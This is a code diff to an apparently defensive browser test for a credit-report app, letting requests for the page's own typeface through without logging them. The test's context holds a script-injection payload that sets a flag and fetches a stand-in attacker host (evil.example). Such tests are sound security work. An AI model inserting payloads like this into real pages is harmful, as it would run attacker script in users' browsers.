@@ -5,6 +5,7 @@ import { readReport } from '#credit/report/read.ts';
 import { anApp, sampleReport, type AppUnderTest } from '#tests/support/anApp.ts';
 import { figure } from '#tests/support/figure.ts';
 import { leaveBrowser, theBrowser } from '#tests/support/world.ts';
+import { typefaceUrl } from '#vocabulary/typeface.ts';
 import { aProfile, aReport } from '../routes/world.ts';
 
 const run = 'window.attacked=1;fetch("https://evil.example/run")';
@@ -123,7 +124,8 @@ async function shown(body: string, headers: Readonly<Record<string, string>>): P
       did.push('shown');
       return route.fulfill({ body, headers: { 'content-type': 'text/html; charset=utf-8', ...headers } });
     }
-    did.push(`requested ${url}`);
+    // The page's own typeface, which every report has.
+    if (new URL(url).pathname !== typefaceUrl) did.push(`requested ${url}`);
     return route.abort();
   });
   page.on('dialog', (dialog) => {
